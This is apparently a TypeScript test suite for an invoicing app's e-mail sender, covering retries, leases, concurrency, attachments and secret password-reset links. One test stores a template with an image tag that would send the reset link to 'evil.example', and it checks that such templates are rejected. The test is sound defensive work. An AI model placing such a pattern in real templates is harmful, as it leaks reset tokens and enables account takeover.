import { watchFailpoints } from '@quittance/config/host';
import { addSeconds, bulkCtx, type Ctx } from '@quittance/kernel';
import { learn } from '@quittance/watchdog/host';
import { aStandstill } from '../../../../test/support/a-standstill.js';
import { testDatabase, type TestDatabase } from '../../../../test/support/test-database.js';
import type { NewEmail } from '../emails/prepare-emails.js';
import { queueEmail } from '../emails/queue-email.js';
import { TEMPLATE_KINDS } from '../templates/catalogue.js';
import { sampleData } from '../templates/variables.js';
import { startMailServer, type MailServer } from '../testing/mail-server.js';
import type { AttachmentSource } from './attachment-source.port.js';
import { testRenderer } from '../testing/test-renderer.js';
import { LEASE_SECONDS, UNANSWERED_SECONDS } from './back-off.js';
import type { ClaimedEmail } from './compose-mail.js';
import { emailBacklog } from './email-backlog.js';
import { EmailLease } from './email-lease.js';
import type { EmailOccasions } from './email-occasions.port.js';
import type { SecretLinks } from './secret-links.port.js';
import { SendEmails } from './send-emails.js';
import { SmtpCarrier } from './smtp-carrier.js';

let t: TestDatabase;
let ctx: Ctx;
let server: MailServer;
beforeAll(async () => {
  t = await testDatabase();
});
afterAll(() => t.close());
beforeEach(async () => {
  t.clock.set('2026-03-02T09:00:00.000Z');
  ctx = await t.newCompany({ legalName: 'Acme "Tools" Ltd' });
  server = await startMailServer();
});
afterEach(async () => {
  await server.close();
  const forget = 'delete from notifications.email where company_id = $1';
  await t.db.write(ctx, (tx) => tx.run(forget, [ctx.companyId]));
});

const AN_EMAIL: NewEmail = {
  templateCode: 'INVOICE_SENT',
  to: 'billing@contoso.example',
  data: sampleData(TEMPLATE_KINDS.INVOICE_SENT.variables),
  object: 'invoice',
  recordId: 'invoice-1',
};

const NO_FILES: AttachmentSource = { render: () => Promise.resolve(null) };
const NO_LINKS: SecretLinks = { make: () => Promise.reject(new Error('no link is asked for')) };
const NEVER_OVER: EmailOccasions = { isOver: () => Promise.resolve(null) };

function sender(
  attachments: AttachmentSource = NO_FILES,
  links: SecretLinks = NO_LINKS,
  occasions: EmailOccasions = NEVER_OVER,
): SendEmails {
  const carrier = new SmtpCarrier({ url: server.url, from: 'mail@quittance.example' });
  return new SendEmails(t.db, carrier, attachments, links, occasions, testRenderer);
}

function queue(count = 1, email: Partial<NewEmail> = {}): Promise<void> {
  return t.db.write(ctx, async (tx) => {
    for (let i = 0; i < count; i += 1) {
      await queueEmail(tx, { ...AN_EMAIL, to: `to${i}@contoso.example`, ...email });
    }
  });
}

type Held = Pick<ClaimedEmail, 'id' | 'attempts'>;

interface Row {
  readonly status: string;
  readonly attempts: number;
  readonly error: string | null;
  readonly answer: string | null;
  readonly text: string;
  readonly late: object | null;
}

function rows(): Promise<Row[]> {
  const statement = `select status, attempts, last_error as error, answer, text, late
    from notifications.email where company_id = $1 order by id`;
  return t.db.read(ctx, (tx) => tx.rows<Row>(statement, [ctx.companyId]));
}

const later = (seconds: number) => t.clock.set(addSeconds(t.clock.now(), seconds));

it('sends what is queued as a company would write it', async () => {
  await queue();
  expect(await sender().execute(t.clock)).toBe(1);
  expect(await rows()).toMatchObject([{ status: 'sent', attempts: 1, error: null }]);
  expect((await rows())[0]?.answer).toContain('stored');
  const [mail] = server.mails;
  expect(mail?.from).toEqual({ name: 'Acme "Tools" Ltd', address: 'mail@quittance.example' });
  expect(mail?.to).toEqual([{ name: '', address: 'to0@contoso.example' }]);
  expect(mail?.subject).toBe('Invoice INV-000042 from Acme "Tools" Ltd');
  expect(mail?.html).toContain('Contoso &amp; Sons');
  expect(mail?.text).toContain('Contoso & Sons');
  expect(mail?.messageId).toMatch(/^<[0-9a-f-]{36}@quittance\.example>$/);
  expect(await sender().execute(t.clock)).toBe(0);
});

it('withholds what its occasion is over for, and says so', async () => {
  await queue();
  const why = 'Nothing that it asks for is open any more.';
  const occasions = { isOver: () => Promise.resolve(why) };
  await sender(NO_FILES, NO_LINKS, occasions).execute(t.clock);
  expect(server.mails).toEqual([]);
  expect(await rows()).toMatchObject([{ status: 'failed', attempts: 1, error: why }]);
});

it('is done by any number of senders without a double', async () => {
  await queue(30);
  const senders = Array.from({ length: 4 }, () => sender());
  const drain = async (one: SendEmails) => {
    while ((await one.execute(t.clock)) > 0);
  };
  await Promise.all(senders.map(drain));
  expect(new Set(server.mails.map(({ messageId }) => messageId)).size).toBe(30);
  expect(server.mails).toHaveLength(30);
  expect((await rows()).every(({ status }) => status === 'sent')).toBe(true);
});

it('gives up at once what the server refuses for good', async () => {
  server.next({ kind: 'refuse', at: 'recipient', code: 550 });
  await queue();
  await sender().execute(t.clock);
  expect(await rows()).toMatchObject([
    { status: 'failed', attempts: 1, error: expect.stringContaining('Not with us') },
  ]);
});

it.each([
  { kind: 'refuse', at: 'message', code: 451 },
  { kind: 'hang-up', at: 'recipient' },
] as const)('tries again later after %j', async (mood) => {
  server.next(mood);
  await queue();
  await sender().execute(t.clock);
  expect(await rows()).toMatchObject([{ status: 'queued', attempts: 1 }]);
  expect(await sender().execute(t.clock)).toBe(0);
  later(60);
  expect(await sender().execute(t.clock)).toBe(1);
  expect(await rows()).toMatchObject([{ status: 'sent', attempts: 2, error: null }]);
  expect(server.mails).toHaveLength(1);
});

it('loses nothing to a server that is away', async () => {
  const address = server.url;
  await server.close();
  await queue(3);
  await sender().execute(t.clock);
  expect((await rows()).map(({ status }) => status)).toEqual(['queued', 'queued', 'queued']);
  server = await startMailServer(Number(new URL(address).port));
  later(60);
  await sender().execute(t.clock);
  expect(server.mails).toHaveLength(3);
});

it('gives up after ten tries', async () => {
  await queue();
  for (let i = 0; i < 10; i += 1) {
    server.next({ kind: 'refuse', at: 'recipient', code: 451 });
    await sender().execute(t.clock);
    later(24 * 3600);
  }
  expect(await rows()).toMatchObject([{ status: 'failed', attempts: 10 }]);
  expect(await sender().execute(t.clock)).toBe(0);
});

it('waits for word when no answer came, and sends under the same message id', async () => {
  server.next({ kind: 'hang-up', at: 'stored' });
  await queue();
  await sender().execute(t.clock);
  expect(await rows()).toMatchObject([{ status: 'sending', attempts: 1 }]);
  later(UNANSWERED_SECONDS - 1);
  expect(await sender().execute(t.clock)).toBe(0);
  later(1);
  expect(await sender().execute(t.clock)).toBe(1);
  expect(await rows()).toMatchObject([{ status: 'sent', attempts: 2 }]);
  expect(server.mails.map(({ messageId }) => messageId)).toEqual([
    server.mails[0]?.messageId,
    server.mails[0]?.messageId,
  ]);
});

it('is sent where what another company has fails, which is told', async () => {
  await queue();
  ctx = await t.newCompany();
  await queue();
  // That of the company whose turn is first.
  let isFirst = true;
  watchFailpoints((name) => {
    if (name !== 'transaction.begun' || !isFirst) return;
    isFirst = false;
    throw new Error('down');
  });
  const told: unknown[] = [];
  const sent = sender().execute(t.clock, (error) => told.push(error));
  expect(await sent.finally(() => watchFailpoints(undefined))).toBe(1);
  expect(told).toMatchObject([{ message: 'down' }]);
  expect(server.mails).toHaveLength(1);
  await sender().execute(t.clock);
});

it('leaves within a minute of the death of who had it, under the same message id', async () => {
  await queue();
  // What a sender that is killed leaves behind.
  await t.db.write(ctx, (tx) =>
    tx.run(
      `update notifications.email set status = 'sending', attempts = 1, message_id = 'held@x',
         due_at = (due_at at time zone 'UTC' + make_interval(secs => ${LEASE_SECONDS}))
           at time zone 'UTC'
       where company_id = $1`,
      [ctx.companyId],
    ),
  );
  expect(await sender().execute(t.clock)).toBe(0);
  later(59);
  expect(await sender().execute(t.clock)).toBe(1);
  expect(server.mails.map(({ messageId }) => messageId)).toEqual(['<held@x>']);
});

it('stays with a sender that is alive, however long its files take', async () => {
  await queue(1, { attachments: [{ kind: 'invoice-pdf', recordId: '1' }] });
  const rivals: number[] = [];
  const slow: AttachmentSource = {
    render: async (own) => {
      const held = await t.db.read(own, (tx) =>
        tx.rows<Held>('select id, attempts from notifications.email'),
      );
      const lease = new EmailLease(t.db, own.companyId, t.clock, held);
      for (let minute = 0; minute < 6; minute += 1) {
        later(LEASE_SECONDS / 2);
        await lease.renew();
        rivals.push(await sender().execute(t.clock));
      }
      await lease.end();
      return null;
    },
  };
  await sender(slow).execute(t.clock);
  expect(rivals).toEqual([0, 0, 0, 0, 0, 0]);
  expect(server.mails).toHaveLength(1);
  expect(await rows()).toMatchObject([{ status: 'sent', attempts: 1 }]);
});

it('does not begin with what others may have taken up while it was halted', async () => {
  await queue(8, { attachments: [{ kind: 'invoice-pdf', recordId: '1' }] });
  let halted = false;
  const halting: AttachmentSource = {
    render: async () => {
      if (!halted) later(LEASE_SECONDS);
      halted = true;
      return null;
    },
  };
  await sender(halting).execute(t.clock);
  const begun = server.mails.length;
  expect(begun).toBeLessThan(8);
  await sender().execute(t.clock);
  const ids = server.mails.map(({ messageId }) => messageId);
  expect(new Set(ids).size).toBe(8);
});

it('takes what is fresh before what belongs to work on many records, and some of it', async () => {
  await t.db.write(bulkCtx(ctx), async (tx) => {
    for (let i = 0; i < 20; i += 1) {
      await queueEmail(tx, { ...AN_EMAIL, to: `bulk${i}@contoso.example` });
    }
  });
  later(1);
  await t.db.write({ ...ctx, now: t.clock.now() }, async (tx) => {
    for (let i = 0; i < 10; i += 1) {
      await queueEmail(tx, { ...AN_EMAIL, to: `fresh${i}@contoso.example` });
    }
  });
  const backlog = async () =>
    (await emailBacklog(t.db, t.clock.now())).map(({ kind, waiting, seconds }) => [
      kind,
      waiting,
      seconds,
    ]);
  expect((await backlog()).sort()).toEqual([
    ['bulk', 20, 1],
    ['failed', 0, 0],
    ['fresh', 10, 0],
  ]);
  await sender().execute(t.clock);
  const sent = () => server.mails.map(({ to }) => to?.[0]?.address?.replace(/\d.*/, ''));
  expect(sent().filter((lane) => lane === 'fresh')).toHaveLength(8);
  expect(sent().filter((lane) => lane === 'bulk')).toHaveLength(2);
});

it('stores no outcome over that of a sender that took the e-mail up meanwhile', async () => {
  await queue(1, { attachments: [{ kind: 'invoice-pdf', recordId: '1' }] });
  const slow: AttachmentSource = {
    render: async () => {
      later(LEASE_SECONDS);
      await sender().execute(t.clock);
      throw new Error('too late');
    },
  };
  await sender(slow).execute(t.clock);
  expect(await rows()).toMatchObject([{ status: 'sent', attempts: 2, error: null }]);
});

it('attaches what its source makes, and tries again when that fails', async () => {
  const attachments = [
    { kind: 'invoice-pdf', recordId: 'invoice-1' },
    { kind: 'unknown', recordId: 'x' },
  ];
  await queue(1, { attachments });
  const failing: AttachmentSource = { render: () => Promise.reject(new Error('no PDF today')) };
  await sender(failing).execute(t.clock);
  expect(await rows()).toMatchObject([{ status: 'queued', error: 'no PDF today' }]);
  later(60);
  const content = Buffer.from('%PDF-1.7');
  const source: AttachmentSource = {
    render: async (_, { kind }) =>
      kind === 'invoice-pdf'
        ? { filename: 'INV-000042.pdf', contentType: 'application/pdf', content }
        : null,
  };
  await sender(source).execute(t.clock);
  const files = server.mails[0]?.attachments ?? [];
  expect(files.map(({ filename, mimeType }) => [filename, mimeType])).toEqual([
    ['INV-000042.pdf', 'application/pdf'],
  ]);
  expect(Buffer.from(files[0]?.content as ArrayBuffer)).toEqual(content);
});

describe('a secret link', () => {
  const email: Partial<NewEmail> = {
    templateCode: 'USER_PASSWORD_RESET',
    data: { user: { name: 'Ada', email: 'ada@example.com' } },
    secret: { kind: 'password-reset', recordId: 'user-1' },
  };
  const SECRET = 'https://staff.example.com/set#token=qp_canary&x=1';

  it('reaches the recipient and stays out of the log', async () => {
    await queue(1, email);
    const links: SecretLinks = { make: () => Promise.resolve(SECRET) };
    await sender(NO_FILES, links).execute(t.clock);
    expect(server.mails[0]?.text).toContain(`Set your password: ${SECRET}`);
    expect(server.mails[0]?.html).toContain('token=qp_canary&amp;x=1');
    const [row] = await rows();
    expect(row).toMatchObject({ status: 'sent', late: null });
    expect(JSON.stringify(row)).not.toContain('canary');
  });

  it('that a text saved before would give away is not made, its e-mail fails with it', async () => {
    const save = `insert into notifications.email_template
      (company_id, code, subject, html, text, active, created_at, updated_at)
      values ($1, 'USER_PASSWORD_RESET', 's', $2, 't', true, now(), now())`;
    const html = '<img src="https://evil.example/p?u={{ link | url_encode }}">';
    await t.db.write(ctx, (tx) => tx.run(save, [ctx.companyId, html]));
    await queue(1, email);
    await sender().execute(t.clock);
    expect(server.mails).toHaveLength(0);
    const error = expect.stringContaining(
      'could give its link away: html: an e-mail with a secret',
    );
    expect(await rows()).toMatchObject([{ status: 'failed', error }]);
  });

  it('that nobody should get any more is not sent', async () => {
    await queue(1, email);
    const links: SecretLinks = { make: () => Promise.resolve(null) };
    await sender(NO_FILES, links).execute(t.clock);
    expect(server.mails).toHaveLength(0);
    expect(await rows()).toMatchObject([{ status: 'failed' }]);
  });
});

it('gives an e-mail up that ended its process twice, and sends the others', async () => {
  await queue(2);
  const { companyId } = ctx;
  const ids = await t.db.read(ctx, (tx) =>
    tx.rows<{ id: string }>(
      'select id from notifications.email where company_id = $1 order by to_address',
      [companyId],
    ),
  );
  const work = { companyId, kind: 'email', id: ids[0]?.id ?? '' };
  const ends = [1, 2].map(() => aStandstill(work, t.clock.now()));
  learn(ends, t.clock.now());
  await sender().execute(t.clock);
  learn([], t.clock.now());
  expect((await rows()).map(({ status, error }) => [status, error])).toEqual([
    ['failed', expect.stringContaining('standstill')],
    ['sent', null],
  ]);
  expect(server.mails).toHaveLength(1);
});
